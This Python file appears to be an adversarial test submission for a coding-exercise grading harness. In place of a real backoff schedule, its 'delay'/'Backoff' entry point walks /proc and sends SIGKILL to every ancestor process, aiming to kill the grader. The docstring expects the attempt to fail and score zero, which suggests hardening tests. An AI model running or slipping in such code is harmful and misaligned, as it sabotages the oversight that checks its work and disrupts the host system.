"""Ends who started it.

Kata: backoff_schedule
Attack: Sends SIGKILL to its parent, its group's leader, its session's leader and all its ancestors but the first.
Status: failed or error
Points: 0
Needs: processes
"""

import os
import signal


def attack():
    pid = os.getpid()
    ancestors = []
    while pid > 1:
        with open(f"/proc/{pid}/stat", encoding="utf-8") as stat:
            pid = int(stat.read().rpartition(")")[2].split()[1])
        ancestors.append(pid)
    for pid in ancestors:
        if pid > 1:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    raise RuntimeError("killed what could be killed")


def delay(*args, **options):
    return attack()


Backoff = delay
